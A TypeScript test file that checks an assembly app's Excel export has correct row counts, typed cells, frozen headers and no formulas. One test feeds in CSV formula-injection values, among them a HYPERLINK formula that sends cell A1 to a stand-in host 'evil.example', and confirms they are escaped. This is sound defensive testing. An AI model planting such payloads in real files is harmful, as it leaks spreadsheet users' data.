import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import type { DrawView } from '../../shared/draws.ts'
import { useTempDir } from '../../../test/support/temp-dir.ts'
import { testApp } from '../../../test/support/test-app.ts'
import { listAudit } from '../audit/audit-log.ts'
import { createDemo } from '../demo/create-demo.ts'
import { listDraws } from '../draw/draw-repo.ts'
import { readAllAttendance, readMembers } from '../people/people-repo.ts'
import { poolSize } from '../pool/pool-repo.ts'
import { openProject } from '../project/open-project.ts'
import { readSessions } from '../sessions/sessions-repo.ts'
import { votesOverview } from '../votes/votes-view.ts'
import { writeAssemblyWorkbook } from './assembly-workbook.ts'

const tempDir = useTempDir()

async function readBack(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.readFile(file)
  return workbook
}

/** Every cell that is a formula, or a text a spreadsheet would run as one. */
function unsafeCells(workbook: ExcelJS.Workbook): string[] {
  const out: string[] = []
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.SharedString)
          out.push(`${sheet.name}!${cell.address} is a formula`)
        if (typeof cell.value === 'string' && /^[=+\-@\t\r]/.test(cell.value))
          out.push(`${sheet.name}!${cell.address} = ${cell.value}`)
      }),
    ),
  )
  return out
}

function dataRows(workbook: ExcelJS.Workbook, name: string): number {
  const sheet = workbook.getWorksheet(name)
  if (!sheet) throw new Error(`no sheet ${name}`)
  return sheet.actualRowCount - 1
}

describe('the assembly workbook', () => {
  it('holds every table of the demo with as many rows as the project, typed, frozen and formula-free; the same bytes twice', async () => {
    const dir = tempDir()
    const file = join(dir, 'demo.assembly')
    await createDemo(file, { seed: 'workbook' })
    const project = await openProject(file)
    try {
      const out = join(dir, 'demo.xlsx')
      const summary = await writeAssemblyWorkbook(project.sqlite, out)
      const first = readFileSync(out)
      await writeAssemblyWorkbook(project.sqlite, join(dir, 'again.xlsx'))
      expect(readFileSync(join(dir, 'again.xlsx')).equals(first)).toBe(true)

      const workbook = await readBack(out)
      const { sqlite } = project
      const { recommendations, ballots } = votesOverview(sqlite)
      const marks = [...readAllAttendance(sqlite).values()].flat().length
      const expected: Record<string, number> = {
        Pool: poolSize(sqlite),
        Draws: listDraws(sqlite).length,
        Members: readMembers(sqlite).length,
        Attendance: marks,
        Sessions: readSessions(sqlite).length,
        Recommendations: recommendations.length,
        Ballots: ballots.length,
        'Audit log': listAudit(sqlite).length,
      }
      for (const [name, rows] of Object.entries(expected)) {
        expect(rows, name).toBeGreaterThan(0)
        expect(dataRows(workbook, name), name).toBe(rows)
        expect(summary.sheets.find((s) => s.name === name)?.rows, name).toBe(rows)
      }
      expect(workbook.worksheets.map((s) => s.name)).toEqual(summary.sheets.map((s) => s.name))
      expect(dataRows(workbook, 'Results')).toBeGreaterThan(ballots.length)
      expect(unsafeCells(workbook)).toEqual([])
      for (const sheet of workbook.worksheets)
        expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 1 })

      const sessions = workbook.getWorksheet('Sessions')
      expect(sessions?.getCell('C2').value).toBeInstanceOf(Date)
      expect(sessions?.getCell('C2').numFmt).toBe('yyyy-mm-dd')
      expect(typeof sessions?.getCell('F2').value).toBe('number')
      const audit = workbook.getWorksheet('Audit log')
      expect(audit?.getCell('B2').value).toBeInstanceOf(Date)
      expect(audit?.getCell(`F${listAudit(sqlite).length + 1}`).value).toBe(listAudit(sqlite).at(-1)?.hash)
      const pool = workbook.getWorksheet('Pool')
      const chance = pool?.getRow(1).values as unknown[]
      const chanceColumn = chance.indexOf('Chance (first draw)')
      const chances = pool?.getColumn(chanceColumn).values.slice(2) as number[]
      expect(chances.every((c) => typeof c === 'number' && c >= 0 && c <= 1)).toBe(true)
    } finally {
      await project.close()
    }
  }, 120_000)

  it('writes formula-looking names, phones and ids as plain text, in French for a French assembly', async () => {
    const dir = tempDir()
    const { call } = testApp(dir)
    const file = join(dir, 'documents', 'evil.assembly')
    await call('project:create', { file, name: 'Assemblée' })
    await call('profile:update', { patch: { languages: ['Français'] } })
    const rows = Array.from({ length: 12 }, (_, i) =>
      i === 0
        ? '=1+1,"=HYPERLINK(""http://evil.example/?""&A1;""click"")",@SUM(A1),+33 6 12 34 56 78,A'
        : `p${i},Name${i},-Family${i},+33 6 00 00 00 ${String(i).padStart(2, '0')},${i % 2 ? 'A' : 'B'}`,
    )
    const csv = join(dir, 'pool.csv')
    writeFileSync(csv, ['id,first name,last name,phone,group', ...rows].join('\n'))
    await call('pool:import', {
      jobId: 'import',
      file: csv,
      mapping: {
        columns: [
          { role: 'id' },
          { role: 'firstName' },
          { role: 'lastName' },
          { role: 'phone' },
          { role: 'category', category: 'Group' },
        ],
        values: { Group: { a: 'A', b: 'B' } },
        missing: { Group: { kind: 'reject' } },
      },
    })
    await call('quotas:save', { rows: [], panelSize: 12 })
    const draw = await call<DrawView>('draw:prepare', {
      jobId: 'd',
      kind: 'initial',
      request: { algorithm: 'legacy', reserves: 0 },
    })
    await call('draw:complete', { drawId: draw.id, seed: '42' })
    await call('project:close', null)

    const project = await openProject(file)
    try {
      const out = join(dir, 'evil.xlsx')
      await writeAssemblyWorkbook(project.sqlite, out)
      const workbook = await readBack(out)
      expect(unsafeCells(workbook)).toEqual([])
      const vivier = workbook.getWorksheet('Vivier')
      expect(vivier?.getCell('A2').value).toBe("'=1+1")
      expect(vivier?.getCell('B2').value).toBe('\'=HYPERLINK("http://evil.example/?"&A1;"click") @SUM(A1)')
      expect(dataRows(workbook, 'Vivier')).toBe(12)
      const members = workbook.getWorksheet('Membres')
      expect(members?.getRow(1).values).toContain('Prénom')
      const names = members?.getColumn(2).values ?? []
      expect(names).toContain('\'=HYPERLINK("http://evil.example/?"&A1;"click")')
      expect(members?.getColumn(3).values).toContain("'@SUM(A1)")
    } finally {
      await project.close()
    }
  }, 60_000)
})
